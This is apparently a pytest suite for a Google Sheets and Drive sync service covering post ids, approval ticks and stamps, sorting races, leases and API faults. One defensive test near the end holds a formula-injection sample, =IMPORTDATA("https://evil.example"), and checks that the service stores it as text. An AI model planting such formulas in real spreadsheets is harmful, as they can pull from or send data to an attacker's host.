"""drive-sync's runs over real tables (moto) and the local Sheets and Drive server."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta
from typing import Any

import httpx
import pytest
from drive_sync_desk import RULES, Desk, before_each_write
from rounds import Rounds

from drive_sync import handler as drive_sync
from drive_sync.edges import MirrorStore
from drive_sync.folder import Folder
from drive_sync.state import STATE_KEY, State
from drive_sync.writer import SheetWriter
from mesh import clock
from mesh.bus import Bus
from mesh.errors import Throttled, Unreachable
from mesh.events import CalendarChanged, Cleared, Held, RulesChanged, Trouble
from mesh.google import File
from mesh.ledger import FlagState
from mesh.ledger.verify import End, walk
from mesh.posts import stamp

MINUTE = timedelta(minutes=1)
PNG = b"\x89PNG\r\n\x1a\n" + b"cake" * 8
DAY = (clock.now() + timedelta(days=3)).date().isoformat()


def row(text: str, **cells: str) -> dict[str, str]:
    return {"text": text, "date": DAY, **cells}


def later(desk: Desk, minutes: float) -> None:
    desk.mesh.turn_clock(clock.now() + minutes * MINUTE)


def changed_posts(desk: Desk) -> list[list[str]]:
    return [event.post_ids for event in desk.mesh.events_of(CalendarChanged)]


def synced(desk: Desk, *texts: str) -> list[str]:
    """These rows with ids, items and nothing left to do; their ids."""
    desk.add(*(row(text) for text in texts))
    desk.settle()
    ids = [desk.id_of(text) for text in texts]
    for post_id in ids:
        desk.unapproved(post_id)
    desk.settle()
    desk.mesh.entries.clear()
    return ids


def flagged(desk: Desk, *texts: str) -> list[str]:
    """The same, approved, with tick and stamp in the sheet."""
    ids = synced(desk, *texts)
    for post_id in ids:
        desk.approve(post_id)
    desk.settle()
    desk.mesh.entries.clear()
    return ids


# looking


def test_the_first_sync_gives_ids_mirrors_everything_and_names_exactly_the_new_rows(desk: Desk) -> None:
    md5 = desk.upload("cake.png", PNG)
    desk.add(row("one", image="cake.png"), row("two"))

    desk.sync()

    ids = [entry["post_id"] for entry in desk.grid]
    assert len(set(ids)) == 2
    assert all(post_id.startswith("p_") for post_id in ids)
    assert changed_posts(desk) == [sorted(ids)]
    mirrored = desk.mirrored()
    assert [mirrored[post_id].text for post_id in ids] == ["one", "two"]
    assert mirrored[ids[0]].images == {"cake.png": md5}
    assert desk.stored(f"images/{md5}") == PNG
    assert desk.rules_text("rules.txt") == RULES
    assert desk.rules_text("voice.txt") == "Warm and short."
    assert len(desk.mesh.events_of(RulesChanged)) == 1


def test_an_unchanged_sync_takes_four_calls_one_after_the_other_one_of_them_googles(
    desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    synced(desk, "one")  # a post is open, which a hold or a pause could keep back
    send = httpx.Client.send

    def named(client: httpx.Client, request: httpx.Request, **options: Any) -> httpx.Response:
        desk.mesh.calls.append(f"{request.method} {request.url.path}")
        return send(client, request, **options)

    with monkeypatch.context() as patched:
        patched.setattr(httpx.Client, "send", named)
        runner = Rounds(desk.mesh.calls)
        desk.parts = replace(desk.parts, together=runner)
        desk.sync()

    assert runner.close() == [
        "PutItem",  # the lease
        "BatchGetItem+Query",  # what the last run left, and the open posts
        "BatchGetItem+GET /drive/v3/changes",  # the holds and pauses over them
        "DeleteItem",
    ]


def test_every_ten_minutes_a_run_notes_that_it_got_through(desk: Desk) -> None:
    synced(desk, "one")
    runner = Rounds(desk.mesh.calls)
    desk.parts = replace(desk.parts, together=runner)
    later(desk, 10)
    desk.sync()
    assert runner.close()[-2:] == ["PutItem", "DeleteItem"]


def test_an_edited_row_is_the_only_one_named(desk: Desk) -> None:
    _, second, _ = synced(desk, "one", "two", "three")

    desk.type(1, "text", "two, edited")
    desk.settle()

    assert changed_posts(desk) == [[second]]
    assert desk.mirrored()[second].text == "two, edited"


def test_sorting_alone_names_no_post(desk: Desk) -> None:
    synced(desk, "one", "two", "three")

    desk.sort("text", descending=True)
    desk.settle()

    assert changed_posts(desk) == []


def test_another_rules_doc_is_mirrored_and_said(desk: Desk) -> None:
    synced(desk, "one")

    desk.rules(RULES + "Minimum gap: 5 minutes\n")
    desk.settle()

    assert desk.rules_text("rules.txt").endswith("5 minutes\n")
    assert len(desk.mesh.events_of(RulesChanged)) == 1
    assert desk.mesh.events_of(Trouble) == []


def test_a_rules_doc_with_a_mistake_leaves_the_last_good_rules_in_force_and_says_so_with_the_line(desk: Desk) -> None:
    synced(desk, "one")

    desk.rules(RULES + "Posting window: Mars\n")
    desk.settle()

    assert desk.rules_text("rules.txt") == RULES
    assert desk.mesh.events_of(RulesChanged) == []
    (trouble,) = desk.mesh.events_of(Trouble)
    assert "Mars" not in trouble.model_dump_json()
    note = desk.mesh.runtime.get(trouble.words_key, clock.now())
    assert note is not None
    assert "Line 4" in note["message"]
    assert "stay in force" in note["message"]
    desk.rules(RULES + "Minimum gap: 5 minutes\n")
    desk.settle()
    assert desk.rules_text("rules.txt").endswith("5 minutes\n")


def test_a_replaced_image_of_the_same_name_changes_the_rows_hash(desk: Desk) -> None:
    desk.upload("cake.png", PNG)
    desk.add(row("one", image="cake.png"))
    desk.settle()
    post_id = desk.id_of("one")
    desk.mesh.entries.clear()

    md5 = desk.upload("cake.png", PNG + b"more")
    desk.settle()

    assert desk.mirrored()[post_id].images == {"cake.png": md5}
    assert desk.stored(f"images/{md5}") == PNG + b"more"
    assert changed_posts(desk) == [[post_id]]


def test_of_two_images_with_one_name_the_one_changed_last_counts() -> None:
    old = File("a", name="cake.png", md5="old", modified_at="2027-03-01T00:00:00Z")
    new = File("b", name="cake.png", md5="new", modified_at="2027-03-02T00:00:00Z")

    assert Folder({"b": new, "a": old}, set()).named("cake.png") == new
    assert Folder({"a": old, "b": new}, set()).named("cake.png") == new


def test_a_run_without_time_for_an_image_holds_its_row_back_and_the_next_run_brings_it(desk: Desk) -> None:
    md5 = desk.upload("cake.png", PNG)
    desk.add(row("one", image="cake.png"), row("two"))

    desk.sync(remaining_seconds=14)
    assert [known.text for known in desk.mirrored().values()] == ["two"]
    desk.settle()

    assert desk.mirrored()[desk.id_of("one")].images == {"cake.png": md5}


# ids


def test_a_copied_row_gets_an_id_of_its_own_and_no_approval(desk: Desk) -> None:
    (original,) = flagged(desk, "one")

    desk.copy(0, 1)
    desk.settle()

    first, second = desk.grid
    assert (first["post_id"], first["approved"]) == (original, True)
    assert second["post_id"] not in {"", original}
    assert (second["approved"], second["approved for"], second["status"]) == (False, "", "")
    assert changed_posts(desk) == [[second["post_id"]]]
    assert desk.status(original).cleared


def test_a_wiped_id_is_given_back(desk: Desk) -> None:
    (post_id,) = synced(desk, "one")

    desk.type(0, "post_id", "")
    desk.settle()

    assert desk.id_of("one") == post_id
    assert changed_posts(desk) == []


def test_an_absent_row_is_gone_only_after_two_reads_a_minute_apart(desk: Desk) -> None:
    first, second = synced(desk, "one", "two")

    desk.delete(0)
    desk.sync()
    desk.sync()
    assert set(desk.mirrored()) == {first, second}
    assert changed_posts(desk) == []
    later(desk, 1.1)
    desk.sync()

    assert set(desk.mirrored()) == {second}
    assert changed_posts(desk) == [[first]]


def test_a_row_on_its_way_between_two_places_is_not_gone(desk: Desk) -> None:
    post_id, _ = synced(desk, "one", "two")

    desk.delete(0)
    desk.sync()
    desk.add(row("one", post_id=post_id))
    later(desk, 1.1)
    desk.settle()

    assert desk.id_of("one") == post_id
    assert changed_posts(desk) == []


# flags


def test_an_approval_is_ticked_stamped_noted_and_said(desk: Desk) -> None:
    (post_id,) = synced(desk, "one")

    desk.approve(post_id)
    desk.sync()

    assert desk.ticks() == {"one": (True, stamp(post_id, "r1"))}
    assert desk.status(post_id).cleared
    assert [event.post_ids for event in desk.mesh.events_of(Cleared)] == [[post_id]]
    chain = desk.mesh.audit(post_id)
    assert [entry["action"] for entry in chain] == ["new", "approved", "flag written"]
    status = desk.status(post_id)
    assert walk(post_id, chain, End(status.audit.seq, status.audit.hash, status.version)) == ()


def test_a_flag_that_was_there_already_is_only_said(desk: Desk) -> None:
    (post_id,) = flagged(desk, "one")

    desk.approve(post_id)  # released: pending again, tick and stamp never left
    desk.sync()

    assert desk.status(post_id).cleared
    assert [event.post_ids for event in desk.mesh.events_of(Cleared)] == [[post_id]]


def test_an_untick_holds_the_post_and_takes_the_stamp_away(desk: Desk) -> None:
    (post_id,) = flagged(desk, "one")

    desk.type(0, "approved", False)
    desk.settle()

    held = desk.status(post_id).held
    assert held is not None
    assert held.how == "untick"
    assert desk.ticks() == {"one": (False, "")}
    assert [event.post_ids for event in desk.mesh.events_of(Held)] == [[post_id]]
    assert desk.row_of("one")["status"].startswith("Held by the sheet's owner")


def test_a_tick_by_hand_is_taken_back_and_asks_for_a_card(desk: Desk) -> None:
    (post_id,) = synced(desk, "one")

    desk.type(0, "approved", True)
    desk.settle()

    flag = desk.status(post_id).flag
    assert flag is not None
    assert flag.state is FlagState.HAND
    assert desk.ticks() == {"one": (False, "")}
    assert changed_posts(desk) == [[post_id]]
    assert desk.mesh.events_of(Cleared) == []


def test_a_stamp_and_tick_copied_in_by_hand_approve_nothing(desk: Desk) -> None:
    first, second = synced(desk, "one", "two")
    desk.approve(first)
    desk.settle()

    desk.type(1, "approved for", stamp(first, "r1"))
    desk.type(1, "approved", True)
    desk.settle()

    assert desk.ticks()["two"] == (False, "")
    assert not desk.status(second).cleared


@pytest.mark.parametrize("end", ["edit", "hold"])
def test_an_approval_that_ended_takes_tick_and_stamp_along(desk: Desk, end: str) -> None:
    (post_id,) = flagged(desk, "one")

    (desk.edit_noticed if end == "edit" else desk.hold)(post_id)
    desk.settle()

    flag = desk.status(post_id).flag
    assert flag is not None
    assert flag.state is FlagState.CLEARED
    assert desk.ticks() == {"one": (False, "")}


# a sheet that moves under the hand


@pytest.mark.parametrize("times", [1, 2, 3, 4, 7])
def test_sorting_between_read_and_write_ticks_no_wrong_row(
    desk: Desk, monkeypatch: pytest.MonkeyPatch, times: int
) -> None:
    one, *_ = synced(desk, "one", "two", "three")
    downwards = iter([True, False] * 5)
    given_back: list[bool] = []

    def sorting(writes: object) -> None:
        desk.sort("text", descending=next(downwards))
        given_back.extend(tick for _, (tick, _) in desk.ticks().items())

    monkeypatch.setattr(SheetWriter, "write", before_each_write(sorting, times=times))
    desk.approve(one)
    desk.settle()

    assert desk.ticks() == {"one": (True, stamp(one, "r1")), "two": (False, ""), "three": (False, "")}
    assert desk.status(one).cleared
    assert {event.post_ids[0] for event in desk.mesh.events_of(Cleared)} == {one}
    assert desk.mesh.events_of(Held) == []


def test_what_hit_a_wrong_row_is_cleared_there_and_true_is_never_written_back(
    desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    one, two = synced(desk, "one", "two")
    written: list[tuple[str, bool]] = []
    sorting = before_each_write(lambda writes: desk.sort("text", descending=True), times=1)

    def watched(self: SheetWriter, table: object, writes: list[object]) -> object:
        written.extend((write.post_id, write.cells["approved"]) for write in writes if "approved" in write.cells)  # type: ignore[attr-defined]
        return sorting(self, table, writes)  # type: ignore[arg-type]

    monkeypatch.setattr(SheetWriter, "write", watched)
    desk.approve(one)
    desk.settle()

    assert written[0] == (one, True)
    assert sorted(written[1:]) == sorted([(two, False), (one, True)])  # out of the wrong row, into the right one
    assert desk.ticks() == {"one": (True, stamp(one, "r1")), "two": (False, "")}


def test_an_untick_of_a_tick_that_got_into_the_wrong_row_is_a_hold(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    """Two approved posts; the second's tick is sorted away under the write, and its owner takes the wrong one out again at once."""
    one, two = synced(desk, "one", "two")
    desk.approve(two)
    desk.settle()
    desk.approve(one)
    original, once = SheetWriter.write, [True]

    def write(self: SheetWriter, table: object, writes: list[object]) -> object:
        if once and once.pop():
            desk.sort("text", descending=True)
            answer = original(self, table, writes)  # type: ignore[arg-type]
            desk.type([row["text"] for row in desk.grid].index("two"), "approved", False)
            return answer
        return original(self, table, writes)  # type: ignore[arg-type]

    monkeypatch.setattr(SheetWriter, "write", write)
    desk.settle()

    held = desk.status(two).held
    assert held is not None
    assert held.how == "untick"
    assert desk.ticks() == {"one": (True, stamp(one, "r1")), "two": (False, "")}


def test_the_row_that_was_hit_by_mistake_says_its_own_status_again(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    one, _ = synced(desk, "one", "two")
    before = desk.row_of("two")["status"]
    monkeypatch.setattr(
        SheetWriter, "write", before_each_write(lambda writes: desk.sort("text", descending=True), times=1)
    )

    desk.approve(one)
    desk.settle()

    assert before
    assert desk.row_of("two")["status"] == before


def test_sorting_while_ids_are_given_leaves_every_row_with_one_of_its_own(
    desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(
        SheetWriter, "write", before_each_write(lambda writes: desk.sort("text", descending=True), times=1)
    )
    desk.add(row("a"), row("b"), row("c"))

    desk.settle()

    mirrored = {known.text: post_id for post_id, known in desk.mirrored().items()}
    assert mirrored == {text: desk.id_of(text) for text in "abc"}
    assert len(set(mirrored.values())) == 3


# two at once


def test_a_second_run_leaves_at_once_and_the_first_looks_again(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    synced(desk, "one", "two")
    seen: list[dict[str, int]] = []
    original = MirrorStore.put_rows

    def meanwhile(store: MirrorStore, rows: object) -> bool:
        done = original(store, rows)  # type: ignore[arg-type]
        if not seen:
            desk.type(1, "text", "two, edited meanwhile")
            seen.append(desk.sync(owner="run-2"))
        return done

    monkeypatch.setattr(MirrorStore, "put_rows", meanwhile)
    desk.type(0, "text", "one, edited")
    desk.sync()

    assert seen == [{}]
    assert {known.text for known in desk.mirrored().values()} == {"one, edited", "two, edited meanwhile"}


def test_a_run_that_has_no_time_to_look_again_still_lets_go(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    synced(desk, "one")
    original = MirrorStore.put_rows

    def meanwhile(store: MirrorStore, rows: object) -> bool:
        desk.sync(owner="run-2")
        return original(store, rows)  # type: ignore[arg-type]

    with monkeypatch.context() as patch:
        patch.setattr(MirrorStore, "put_rows", meanwhile)
        desk.type(0, "text", "one, edited")
        desk.sync(remaining_seconds=18)

    assert desk.mesh.runtime.get(drive_sync.LEASE_KEY, clock.now()) is None


# trouble


def test_a_broken_header_is_said_once_a_run_and_loses_nothing(desk: Desk) -> None:
    (post_id,) = synced(desk, "one")
    known = desk.mirrored()
    desk.google.owner.post("/owner/reset", json={"header": ["post_id", "words"], "rows": [[post_id, "one"]]})

    desk.sync()

    (trouble,) = desk.mesh.events_of(Trouble)
    assert trouble.cause.startswith("sheet-broken#")
    assert "date" in trouble.message
    assert desk.mirrored() == known
    assert changed_posts(desk) == []
    assert desk.mesh.runtime.get(drive_sync.LEASE_KEY, clock.now()) is None


def test_a_mended_header_is_read_on_as_if_nothing_had_been(desk: Desk) -> None:
    (post_id,) = synced(desk, "one")
    got = desk.google.owner.get("/owner/grid").json()
    desk.google.owner.post("/owner/reset", json={"header": ["words"], "rows": [["one"]]})
    desk.sync()

    rows = [got["rows"][0], ["", DAY, "09:00", "two", "bluesky-main"]]
    desk.google.owner.post("/owner/reset", json={"header": got["header"], "rows": rows}).raise_for_status()
    desk.settle()

    assert desk.id_of("one") == post_id
    assert changed_posts(desk) == [[desk.id_of("two")]]


@pytest.mark.parametrize(
    ("match", "status", "error"),
    [
        ("GET /drive/v3/changes", 429, Throttled),
        ("GET /drive/v3/changes", 500, Unreachable),
        ("GET /v4/.*/values/", 429, Throttled),
        ("GET /v4/.*/values/", 503, Unreachable),
        ("POST /v4/.*values:batchUpdate", 429, Throttled),
        ("POST /v4/.*values:batchUpdate", 500, Unreachable),
    ],
)
def test_trouble_at_google_that_lasts_is_raised_and_the_next_run_heals(
    desk: Desk, match: str, status: int, error: type[Exception]
) -> None:
    synced(desk, "one")
    state = State.of(desk.mesh.runtime.get(STATE_KEY, clock.now()))
    desk.add(row("two"))
    desk.fault(match, status, count=3)

    with pytest.raises(error):
        desk.sync()

    after = State.of(desk.mesh.runtime.get(STATE_KEY, clock.now()))
    assert replace(after, failing_since=None) == state
    desk.settle()
    assert changed_posts(desk) == [[desk.id_of("two")]]
    assert State.of(desk.mesh.runtime.get(STATE_KEY, clock.now())).failing_since is None


@pytest.mark.parametrize("match", ["GET /drive/v3/changes", "GET /v4/.*/values/", "POST /v4/.*values:batchUpdate"])
@pytest.mark.parametrize("status", [429, 500])
def test_trouble_that_passes_is_waited_for_within_the_run(desk: Desk, match: str, status: int) -> None:
    synced(desk, "one")
    desk.add(row("two"))
    desk.fault(match, status, count=2)

    desk.sync()

    assert changed_posts(desk) == [[desk.id_of("two")]]


def test_a_write_whose_answer_was_lost_is_found_done_by_the_next_look(desk: Desk) -> None:
    (post_id,) = synced(desk, "one")
    desk.approve(post_id)
    desk.fault("POST /v4/.*values:batchUpdate", 500, when="after")

    desk.settle()

    assert desk.status(post_id).cleared
    assert desk.ticks() == {"one": (True, stamp(post_id, "r1"))}
    assert [event.post_ids for event in desk.mesh.events_of(Cleared)] == [[post_id]]


def test_a_run_that_dies_after_the_sheet_was_written_still_gets_its_post_cleared(
    desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    (post_id,) = synced(desk, "one")
    desk.approve(post_id)

    def dies(self: Bus, details: object) -> int:
        raise RuntimeError("killed")

    with monkeypatch.context() as patch:
        patch.setattr(Bus, "put", dies)
        with pytest.raises(RuntimeError):
            desk.sync()
    desk.settle()

    assert desk.status(post_id).cleared
    assert desk.ticks() == {"one": (True, stamp(post_id, "r1"))}


# what is written is text


def test_a_text_that_looks_like_a_formula_is_never_run_by_our_writes(desk: Desk) -> None:
    formula = '=IMPORTDATA("https://evil.example")'
    rows = [["", DAY, "09:00", formula, "bluesky-main", "", "=1+1"]]
    desk.google.owner.post("/owner/reset", json={"rows": rows}).raise_for_status()

    desk.settle()
    post_id = desk.grid[0]["post_id"]
    desk.approve(post_id)
    desk.settle()

    entry = desk.grid[0]
    assert (entry["text"], entry["alt text"], entry["approved"]) == (formula, "=1+1", True)
    assert desk.mirrored()[post_id].text == formula


def test_a_status_sentence_that_begins_with_an_equals_sign_stays_text(
    desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    (post_id,) = synced(desk, "one")
    monkeypatch.setattr("drive_sync.sheet_work.sentence", lambda *_: "=2*3")

    desk.approve(post_id)
    desk.sync()

    assert desk.row_of("one")["status"] == "=2*3"
